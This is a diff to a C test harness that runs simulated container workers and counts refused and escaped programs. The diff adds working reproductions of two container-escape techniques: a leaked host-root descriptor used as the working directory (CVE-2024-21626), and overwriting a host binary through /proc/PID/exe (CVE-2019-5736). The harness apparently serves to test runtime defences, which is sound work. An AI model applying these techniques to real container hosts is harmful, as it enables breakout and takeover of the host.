@@ -7,6 +7,12 @@
  *                                          the workers, as crun would start them: a cgroup, a state in /run/crun
  *                                          (-d: so late; -1: none), clone3() into it and new namespaces,
  *                                          pivot_root() to ROOT, execve()
+ *                                          (-l: with the host's root directory as working directory, by a
+ *                                          descriptor that leaked: CVE-2024-21626)
+ * box join NAME SECONDS                  - be in a container as a runtime is that has yet to execute what it was
+ *                                          asked to: in its cgroup and namespaces, as a program of the host's
+ * box overwrite NAME                     - in a container: write into the program of whoever joins it and is
+ *                                          called so, when it has ended (CVE-2019-5736). Prints what came of it
  *
  * Prints "refused N escaped N killed N other N", counted from how the programs in the containers ended.
  */
@@ -16,6 +22,7 @@
 #include <linux/sched.h>
 #include <sched.h>
 #include <signal.h>
+#include <stdbool.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -120,6 +127,8 @@ static void enter_root(const char *root)
 		die(root);
 }
 
+static bool leaks;
+
 static int start(const char *cgroup, const char *root, char **program)
 {
 	struct clone_args args = {
@@ -138,7 +147,12 @@ static int start(const char *cgroup, const char *root, char **program)
 	if (pid < 0)
 		die("clone3");
 	if (!pid) {
+		int host = leaks ? open("/", O_RDONLY | O_DIRECTORY) : -1;
+
 		enter_root(root);
+		if (leaks && fchdir(host))
+			die("leak");
+		mount("proc", "/proc", "proc", 0, NULL); /* where there is such a folder */
 		execv(program[0], program);
 		_exit(errno == EACCES || errno == EPERM ? 0 : 1); /* refused at once */
 	}
@@ -175,6 +189,96 @@ static void run_one(const char *name, int delay, const char *root, char **progra
 		usleep(1000);
 }
 
+/* ---- attacks --------------------------------------------------------------------------------- */
+
+static void enter(int pid, const char *namespace)
+{
+	char path[64];
+	int fd;
+
+	snprintf(path, sizeof(path), "/proc/%d/ns/%s", pid, namespace);
+	fd = open(path, O_RDONLY | O_CLOEXEC);
+	if (fd < 0 || setns(fd, 0))
+		die(path);
+	close(fd);
+}
+
+static int join(const char *name, const char *seconds)
+{
+	char path[300];
+	int pid = 0, child;
+	FILE *file;
+
+	snprintf(path, sizeof(path), PARENT "/%s/cgroup.procs", name);
+	file = fopen(path, "r");
+	if (!file || fscanf(file, "%d", &pid) != 1)
+		die(path);
+	fclose(file);
+	file = fopen(path, "w");
+	if (!file || fprintf(file, "0") < 0 || fclose(file))
+		die(path);
+	enter(pid, "pid");
+	enter(pid, "mnt");
+	child = fork();
+	if (child < 0)
+		die("fork");
+	if (!child) {
+		sleep((unsigned int)atoi(seconds));
+		_exit(0);
+	}
+	return waitpid(child, NULL, 0) == child ? 0 : 1;
+}
+
+/* Is it called so? */
+static int is_called(int pid, const char *name)
+{
+	char path[64], comm[64] = "";
+	FILE *file;
+
+	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
+	file = fopen(path, "r");
+	if (!file)
+		return 0;
+	if (fscanf(file, "%63s", comm) != 1)
+		comm[0] = '\0';
+	fclose(file);
+	return !strcmp(comm, name);
+}
+
+static int overwrite(const char *name)
+{
+	char path[64];
+	int fd = -1, reader = -1;
+
+	for (int tries = 0; reader < 0 && tries < 100; tries++, usleep(50000))
+		for (int pid = 2; pid < 400 && reader < 0; pid++) {
+			if (pid == getpid() || !is_called(pid, name))
+				continue;
+			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+			reader = open(path, O_PATH);
+			if (reader < 0) {
+				printf("overwrite: %s\n", strerror(errno));
+				return 1;
+			}
+		}
+	if (reader < 0) {
+		puts("overwrite: nobody came");
+		return 2;
+	}
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", reader);
+	for (int tries = 0; fd < 0 && tries < 200; tries++, usleep(50000)) {
+		fd = open(path, O_WRONLY);
+		if (fd < 0 && errno != ETXTBSY)
+			break;
+	}
+	if (fd < 0 || write(fd, "owned", 5) != 5) {
+		printf("overwrite: %s\n", strerror(errno));
+		return 1;
+	}
+	puts("overwritten");
+	return 0;
+}
+
 /* ---- many ------------------------------------------------------------------------------------ */
 
 static int run(int argc, char **argv)
@@ -184,11 +288,13 @@ static int run(int argc, char **argv)
 	struct counts sum = { 0 };
 	int option, delay = 0, workers = 1;
 
-	while ((option = getopt(argc, argv, "+d:w:")) != -1)
+	while ((option = getopt(argc, argv, "+d:w:l")) != -1)
 		if (option == 'd')
 			delay = atoi(optarg);
 		else if (option == 'w')
 			workers = atoi(optarg);
+		else if (option == 'l')
+			leaks = true;
 	argv += optind;
 	argc -= optind;
 	if (argc < 4 || workers < 1 || workers > 64 || counts == MAP_FAILED) {
@@ -226,6 +332,10 @@ int main(int argc, char **argv)
 		return violate(argv[2]);
 	if (argc > 2 && !strcmp(argv[1], "run"))
 		return run(argc - 1, argv + 1);
+	if (argc == 4 && !strcmp(argv[1], "join"))
+		return join(argv[2], argv[3]);
+	if (argc == 3 && !strcmp(argv[1], "overwrite"))
+		return overwrite(argv[2]);
 	fprintf(stderr, "usage: box violate FILE | box run ...\n");
 	return 1;
 }
